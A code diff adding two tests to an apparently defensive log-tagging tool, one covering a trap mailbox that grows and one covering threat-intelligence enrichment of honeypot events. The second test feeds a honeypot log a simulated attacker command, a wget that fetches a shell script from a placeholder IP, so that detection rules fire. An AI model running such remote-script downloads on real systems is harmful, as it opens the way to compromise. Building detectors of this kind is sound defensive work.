@@ -20,6 +20,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { TagRow } from '../src/exports/tag-row.js'
 import { CAPTURE, captureBytes, captureLines } from './support/capture.js'
 import { FollowingCli } from './support/follow-cli.js'
+import { abuseipdbCheck } from './support/provider-answers.js'
 import { ruleText } from './support/rule-text.js'
 import { linesOf, runCli } from './support/run-cli.js'
 import { writeFiles } from './support/write-files.js'
@@ -242,6 +243,51 @@ describe('tag --follow', () => {
     await cli.kill('SIGTERM')
     expect(excerpts(cli)).toEqual(['older', 'newer', 'elsewhere', 'newest'])
     expect(cli.stderr).toMatch(/passed over in folders: 1 without a known log format/)
+  })
+
+  it('reads a mailbox anew when it has grown, and the database has each tag once', async () => {
+    const folder = newFolder()
+    const [box, database] = [join(folder, 'trap.mbox'), join(folder, 'tags.db')]
+    const aboutMails = writeFiles(join(folder, 'rules'), {
+      'R9001.yaml': ruleText({ id: 'R9001', appliesTo: 'email', match: '{ field: raw, contains: Subject }' }),
+    })
+    const mail = (subject: string) =>
+      [
+        'From a@example.net Fri Nov 20 08:25:04 2026',
+        `Received: from mx.example.org ([203.0.113.24]) by mx.example.net id ${subject}; Fri, 20 Nov 2026 08:25:04 +0000`,
+        'From: a@example.net',
+        'To: b@example.com',
+        `Subject: ${subject}`,
+        '',
+        'text',
+        '',
+        '',
+      ].join('\n')
+    writeFileSync(box, mail('one'))
+    const cli = new FollowingCli(
+      [box, '--rules', aboutMails, '--output', 'jsonl', '--db', `sqlite:${database}`],
+      folder,
+    )
+    await cli.until(() => cli.rows.length === 1)
+    appendFileSync(box, mail('two'))
+    await cli.until(() => cli.rows.length === 3)
+    await cli.kill('SIGTERM')
+    const [first, again, second] = cli.rows.map((row) => (JSON.parse(row) as TagRow).uuid)
+    expect(again).toBe(first)
+    expect(uuidsIn(database)).toEqual([first, second].sort())
+  })
+
+  it('states what third parties say of attackers that come', async () => {
+    const folder = newFolder()
+    const [log, answers] = [join(folder, 'cowrie.json'), join(folder, 'abuseipdb.json')]
+    writeFileSync(answers, JSON.stringify(abuseipdbCheck('203.0.113.5')))
+    const cli = new FollowingCli([log, '--intel', answers, '--output', 'jsonl'], folder)
+    await cli.until(() => cli.stderr.includes('waiting for it'))
+    appendFileSync(log, commandLine('wget http://203.0.113.9/x.sh'))
+    const rulesOf = () => cli.rows.map((row) => (JSON.parse(row) as TagRow).rule_id)
+    await cli.until(() => rulesOf().includes('R0054'))
+    expect(await cli.kill('SIGTERM')).toBe(0)
+    expect(rulesOf()).toContain('R0012')
   })
 
   it('judges by rules that change meanwhile', async () => {
